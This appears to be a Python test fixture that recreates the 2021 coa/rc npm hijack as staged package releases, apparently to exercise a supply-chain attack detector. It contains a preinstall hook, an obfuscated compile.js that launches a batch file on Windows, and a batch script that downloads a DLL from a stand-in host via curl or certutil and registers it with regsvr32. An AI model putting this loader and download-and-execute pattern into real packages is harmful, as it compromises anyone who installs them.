r"""coa and rc, 2021: an obfuscated install script runs an obfuscated batch file.

Taken-over accounts published versions with `compile.js`, obfuscated, that ran `compile.bat` on
Windows; that put a command together from single letters of variables, downloaded a library with
whatever tool was there, and registered it.

Post-mortem: "Popular 'coa' NPM library hijacked to steal user passwords" (BleepingComputer) and
GHSA-73qr-pfmq-6rp8.
In the staged tarball: a new preinstall script, an obfuscated file that it runs, a batch file.
"""

from tests.findings.attack import Attack, release

_SOURCE = """\
exports.Command = class Command {
  constructor(name) { this.name = name; this.options = []; }
  option(name, title) { this.options.push({ name, title }); return this; }
  usage() { return `${this.name} ${this.options.map((one) => `[--${one.name}]`).join(' ')}`; }
};
"""
_NEXT = _SOURCE.replace("[--${one.name}]", "[--${one.name}=…]")
_COMPILE = """\
const _0x4a1b=['Y29tcGlsZS5iYXQ=','cGxhdGZvcm0=','d2luMzI=','Y2hpbGRfcHJvY2Vzcw==','c3Bhd24=',\
'Y21kLmV4ZQ==','L2M=','c3Rkb3V0','ZGF0YQ==','bG9n','ZXhpdA=='];\
(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f)\
{_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a1b,0x0));\
const _0x1d3e=function(_0x2d8f05){return Buffer['from'](_0x4a1b[_0x2d8f05-0x0],'base64')\
['toString']();};var opsys=process[_0x1d3e(0x1)];if(opsys==_0x1d3e(0x2))\
{const {spawn:_0x5a}=require(_0x1d3e(0x3));const _0x3c=_0x5a(_0x1d3e(0x5),[_0x1d3e(0x6),\
_0x1d3e(0x0)]);_0x3c[_0x1d3e(0x7)]['on'](_0x1d3e(0x8),_0x2=>{console[_0x1d3e(0x9)](_0x2);});}<<<encoded-words>>>
"""
_BATCH = """\
@echo off
Set aim=replica
curl https://files.example.invalid/s/sdd.dll -o compile.dll<<<shell-script-download>>>
if not exist compile.dll (
  certutil.exe -urlcache -f https://files.example.invalid/s/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
"""

ATTACK = Attack(
    before=release("command-of-args", "2.0.2", {"index.js": _SOURCE}),
    unharmed=release("command-of-args", "2.0.3", {"index.js": _NEXT}),
    after={
        "as it was": release(
            "command-of-args",
            "2.0.3",
            {"index.js": _NEXT, "compile.js": _COMPILE, "compile.bat": _BATCH},
            scripts={
                "preinstall": "start /B node compile.js & node compile.js<<<install-script>>>"
            },
        ),
    },
)
